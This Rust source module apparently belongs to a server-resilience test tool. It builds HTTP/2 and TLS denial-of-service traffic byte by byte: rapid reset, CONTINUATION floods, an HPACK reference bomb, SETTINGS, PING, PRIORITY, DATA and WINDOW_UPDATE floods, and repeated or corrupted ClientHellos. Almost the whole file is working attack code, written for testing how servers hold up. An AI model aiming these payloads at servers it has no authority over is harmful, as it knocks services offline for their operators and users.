//! Attacks in HTTP/2 frames and in TLS records: written octet by octet, since no library sends what these send.
//!
//! HTTP/2 comes in cleartext with prior knowledge, to the listener that speaks HTTP/1.1 too. Each attack repeats one
//! connection until its time is up: what was written before ringgate ended it counts as sent.

use crate::attacks::{Attack, Sent, Site, refused};
use std::io::{self, Read};
use std::sync::{Arc, LazyLock};
use std::time::Instant;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// What an octet of each costs is a row of `bytes`.
pub const ATTACKS: &[(&str, Attack)] = &[
    ("rapid reset", |site, sent| refused(site.web, site.time, sent, &RAPID_RESET)),
    ("made to reset", |site, sent| refused(site.web, site.time, sent, &MADE_TO_RESET)),
    ("CONTINUATION without end", |site, sent| refused(site.web, site.time, sent, &CONTINUATIONS)),
    ("empty CONTINUATION without end", |site, sent| {
        refused(site.web, site.time, sent, &EMPTY_CONTINUATIONS)
    }),
    ("HPACK references", |site, sent| refused(site.web, site.time, sent, &HPACK_BOMB)),
    ("cookie crumbs", |site, sent| refused(site.web, site.time, sent, &CRUMBS)),
    ("SETTINGS flood", |site, sent| refused(site.web, site.time, sent, &SETTINGS_FLOOD)),
    ("PING flood", |site, sent| refused(site.web, site.time, sent, &PING_FLOOD)),
    ("PRIORITY flood", |site, sent| refused(site.web, site.time, sent, &PRIORITY_FLOOD)),
    ("empty DATA flood", |site, sent| refused(site.web, site.time, sent, &EMPTY_DATA)),
    ("WINDOW_UPDATE flood", |site, sent| refused(site.web, site.time, sent, &WINDOW_UPDATES)),
    ("ClientHello, then nothing", hellos),
    ("broken ClientHello", |site, sent| refused(site.tls, site.time, sent, &BROKEN_HELLO)),
];

/// What stands beside others in the row `floods`: the same, by name.
pub fn attack(name: &str) -> Attack {
    ATTACKS.iter().find(|(n, _)| *n == name).expect("an attack of this name").1
}

static RAPID_RESET: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let cancel = 8_u32.to_be_bytes();
    let pair = |n| [get(n, END_STREAM), frame(RST_STREAM, 0, n, &cancel)].concat();
    started(streams(2000).flat_map(pair))
});

/// The client commits errors that make the server reset its own streams.
static MADE_TO_RESET: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let zero = 0_u32.to_be_bytes();
    let pair = |n| [get(n, END_STREAM), frame(WINDOW_UPDATE, 0, n, &zero)].concat();
    started(streams(2000).flat_map(pair))
});

static CONTINUATIONS: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let head = frame(HEADERS, END_STREAM, 1, &FIELDS);
    // A field that is not indexed, again and again.
    let field = literal("x-a", &"y".repeat(200));
    let more = frame(CONTINUATION, 0, 1, &field.repeat(10));
    started(head.into_iter().chain(more.repeat(500)))
});

static EMPTY_CONTINUATIONS: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let head = frame(HEADERS, END_STREAM, 1, &FIELDS);
    started(head.into_iter().chain(frame(CONTINUATION, 0, 1, &[]).repeat(50_000)))
});

/// A field of 4,000 octets goes into the table; each reference to it costs one octet.
static HPACK_BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let seed = [FIELDS.clone(), indexing("x-a", &"y".repeat(3900))].concat();
    let bomb = [FIELDS.clone(), vec![0xbe; 8000]].concat();
    let first = frame(HEADERS, END_STREAM | END_HEADERS, 1, &seed);
    let more = |n| frame(HEADERS, END_STREAM | END_HEADERS, n + 2, &bomb);
    started(first.into_iter().chain(streams(100).flat_map(more)))
});

static CRUMBS: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let seed = [FIELDS.clone(), indexing("cookie", "")].concat();
    let bomb = [FIELDS.clone(), vec![0xbe; 8000]].concat();
    let first = frame(HEADERS, END_STREAM | END_HEADERS, 1, &seed);
    let more = |n| frame(HEADERS, END_STREAM | END_HEADERS, n + 2, &bomb);
    started(first.into_iter().chain(streams(100).flat_map(more)))
});

static SETTINGS_FLOOD: LazyLock<Vec<u8>> =
    LazyLock::new(|| started(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(50_000)));

static PING_FLOOD: LazyLock<Vec<u8>> =
    LazyLock::new(|| started(frame(PING, 0, 0, &[7; 8]).repeat(50_000)));

static PRIORITY_FLOOD: LazyLock<Vec<u8>> = LazyLock::new(|| {
    started(streams(50_000).flat_map(|n| frame(PRIORITY, 0, n, &[0, 0, 0, 0, 16])))
});

static EMPTY_DATA: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let post = frame(HEADERS, END_HEADERS, 1, &FIELDS_OF_POST);
    started(post.into_iter().chain(frame(DATA, 0, 1, &[]).repeat(50_000)))
});

static WINDOW_UPDATES: LazyLock<Vec<u8>> =
    LazyLock::new(|| started(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(50_000)));

/// The record says so much, the message something else.
static BROKEN_HELLO: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let mut hello = HELLO.clone();
    for octet in hello.iter_mut().skip(60).step_by(3) {
        *octet ^= 0x5a;
    }
    hello
});

/// The beginning of a handshake, as rustls writes it.
pub static HELLO: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let config = rustls::ClientConfig::builder()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    let name = "a.test".try_into().expect("a name");
    let mut client = rustls::ClientConnection::new(Arc::new(config), name).expect("a session");
    let mut hello = Vec::new();
    client.write_tls(&mut hello).expect("a vector takes everything");
    hello
});

/// Makes the server calculate, and does nothing itself: always the same octets.
fn hellos(site: &Site, sent: &mut Sent) -> io::Result<()> {
    let began = Instant::now();
    while began.elapsed() < site.time {
        let mut stream = sent.connect(site.tls)?;
        sent.write(&mut stream, &HELLO)?;
        // The answer's beginning means that its work is done.
        if stream.read(&mut [0; 4096])? == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
    }
    Ok(())
}

static FIELDS: LazyLock<Vec<u8>> = LazyLock::new(|| request_fields(0x82));
static FIELDS_OF_POST: LazyLock<Vec<u8>> = LazyLock::new(|| request_fields(0x83));

/// `method`, `:scheme http` and `:path /` from the static table, `:authority` as a literal (RFC 7541 appendix A).
fn request_fields(method: u8) -> Vec<u8> {
    let mut fields = vec![method, 0x86, 0x84, 0x01, 6];
    fields.extend_from_slice(b"a.test");
    fields
}

/// A GET on a stream.
pub fn get(stream: u32, flags: u8) -> Vec<u8> {
    frame(HEADERS, flags | END_HEADERS, stream, &FIELDS)
}

/// The numbers of a client's first streams.
pub fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|n| 2 * n + 1)
}

/// The preface, empty SETTINGS, and what follows.
pub fn started(frames: impl IntoIterator<Item = u8>) -> Vec<u8> {
    let mut all = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    all.extend(frame(SETTINGS, 0, 0, &[]));
    all.extend(frames);
    all
}

/// RFC 9113 section 4.1.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short payload").to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// A field that leaves the table alone (RFC 7541 section 6.2.2).
fn literal(name: &str, value: &str) -> Vec<u8> {
    [vec![0x00], text(name), text(value)].concat()
}

/// A field that goes into the table, as its newest entry: 62, which 0xbe refers to.
fn indexing(name: &str, value: &str) -> Vec<u8> {
    [vec![0x40], text(name), text(value)].concat()
}

/// A string that is not compressed (RFC 7541 section 5.2).
fn text(of: &str) -> Vec<u8> {
    let mut octets = Vec::new();
    let mut length = of.len();
    if length < 127 {
        octets.push(length as u8);
    } else {
        octets.push(127);
        length -= 127;
        while length >= 128 {
            octets.push((length % 128) as u8 | 0x80);
            length /= 128;
        }
        octets.push(length as u8);
    }
    octets.extend_from_slice(of.as_bytes());
    octets
}
